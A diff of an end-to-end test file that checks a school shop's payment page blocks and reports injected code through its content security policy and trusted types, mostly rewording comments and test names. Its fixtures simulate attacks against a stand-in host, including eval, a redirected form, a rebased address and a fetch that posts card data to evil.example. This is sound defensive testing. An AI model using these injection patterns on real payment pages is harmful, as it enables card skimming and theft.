@@ -4,14 +4,14 @@ import { aBuyer, aDeal, expect, openCheckout, test } from '../support/shop';
 const SCHOOL = 'Northlake Middle School';
 const EVIL = 'https://evil.example';
 
-/** The page's own policy for scripts, in browsers that know it: it refuses the text or the address before the browser looks at either. */
+/** The directive of trusted types. Browsers that support it refuse a script's text or address before they look at it. */
 const TYPES = 'require-trusted-types-for';
 
 type Tampering = readonly [directives: string | readonly [typed: string, untyped: string], code: (evil: string) => void];
 
 /**
- * What code that got into the page would try, and the directive that stops it, the second one where the browser knows no trusted types.
- * Each says `stolen` if it runs.
+ * What injected code would try, and the directive that stops it; the second one is for browsers without trusted types. Each sets `stolen` if
+ * it runs.
  */
 const TAMPERINGS: Record<string, Tampering> = {
   'an inline script': [
@@ -60,12 +60,12 @@ const TAMPERINGS: Record<string, Tampering> = {
   'text as code': [
     [TYPES, 'script-src'],
     () => {
-      // The test's own call may do what the page may not.
+      // A call by the test itself would be allowed.
       setTimeout(() => {
         try {
           globalThis.eval('globalThis.stolen = true');
         } catch {
-          // As it should be.
+          // Expected.
         }
       });
     },
@@ -79,7 +79,7 @@ const TAMPERINGS: Record<string, Tampering> = {
       link.click();
     },
   ],
-  'another base for addresses': [
+  'another base address': [
     'base-uri',
     (evil) => {
       const base = document.createElement('base');
@@ -87,7 +87,7 @@ const TAMPERINGS: Record<string, Tampering> = {
       document.head.append(base);
     },
   ],
-  'a form that sends elsewhere': [
+  'a form that submits elsewhere': [
     'form-action',
     (evil) => {
       const form = document.createElement('form');
@@ -112,7 +112,10 @@ const TAMPERINGS: Record<string, Tampering> = {
       worker.addEventListener('error', (event) => event.preventDefault());
     },
   ],
-  'a request that carries the card away': ['connect-src', (evil) => void fetch(`${evil}/card`, { method: 'POST' }).catch(() => undefined)],
+  'a request that sends the card elsewhere': [
+    'connect-src',
+    (evil) => void fetch(`${evil}/card`, { method: 'POST' }).catch(() => undefined),
+  ],
   'a stylesheet as text': [
     'style-src-elem',
     () => {
@@ -133,7 +136,7 @@ const TAMPERINGS: Record<string, Tampering> = {
   ],
 };
 
-/** What the browser reported and the API took, until now. */
+/** The violations that the browser reported and the API accepted so far. */
 function reportsOf(page: Page): string[] {
   const taken: string[] = [];
   page.on('requestfinished', async (request) => {
@@ -144,14 +147,14 @@ function reportsOf(page: Page): string[] {
   return taken;
 }
 
-/** Whether the browser knows trusted types; this one does, and forgets them when the policy says nothing of them. */
+/** Browsers with and without trusted types. This one supports them, but without the directive it behaves like one that does not. */
 const BROWSERS = [
   ['a browser with trusted types', true],
   ['one without', false],
 ] as const;
 
 for (const [browser, isTyped] of BROWSERS)
-  test(`code that got into the payment page is stopped and reported, whatever it tries: ${browser}`, async ({ page, database, watch }) => {
+  test(`code injected into the payment page is stopped and reported in ${browser}`, async ({ page, database, watch }) => {
     watch.expected.push(/Content Security Policy|This document requires 'Trusted|blocked|ERR_|evil\.example/i);
     const reports = reportsOf(page);
     const asked: string[] = [];
@@ -165,7 +168,7 @@ for (const [browser, isTyped] of BROWSERS)
     expect(reports).toEqual([]);
     for (const [what, [directives, code]] of Object.entries(TAMPERINGS)) {
       const before = reports.length;
-      // What the page's own policy refuses throws at once.
+      // Trusted types throw at once.
       await page.evaluate(code, EVIL).catch((error: unknown) => expect(String(error)).toMatch(/Trusted/));
       const [typed, untyped] = [directives].flat() as [string, string?];
       const directive = isTyped ? typed : (untyped ?? typed);
@@ -177,7 +180,7 @@ for (const [browser, isTyped] of BROWSERS)
   });
 
 async function forgetTypes(page: Page): Promise<void> {
-  // A page that the test answers counts as one from the internet, whose scripts may not come from this machine.
+  // Chromium treats a mocked page as foreign, which may not load scripts from this machine.
   await page.context().grantPermissions(['local-network-access']);
   await page.route((url) => !url.pathname.includes('.') && !url.pathname.startsWith('/api/'), withoutTypes);
 }
@@ -191,7 +194,7 @@ async function withoutTypes(route: Route): Promise<void> {
   return route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy } });
 }
 
-test('a workspace runs no script without a hash, and any other page reports one', async ({ page, watch }) => {
+test('a workspace runs no script without a hash, and other pages report one', async ({ page, watch }) => {
   watch.expected.push(/integrity/i);
   for (const [address, event, reportOnly] of [
     ['/admin/login', 'error', false],
@@ -200,12 +203,12 @@ test('a workspace runs no script without a hash, and any other page reports one'
     await page.goto(address);
     await expect(page.locator('main h1')).toBeVisible();
     const { script, ...seen } = await page.evaluate(withoutHash);
-    // None of the page's own.
+    // The page's own scripts are not reported.
     expect(seen).toEqual({ event, reports: [{ blockedURL: script, reportOnly }] });
   }
 });
 
-/** One of the page's own scripts again, as somebody would add it who changed the page: what became of it, and what the browser says. */
+/** Adds one of the page's scripts again, without its hash. @returns whether it ran, and the browser's reports */
 async function withoutHash() {
   type Said = { readonly blockedURL: string; readonly reportOnly: boolean };
   const said = new Promise<Said[]>((resolve) =>
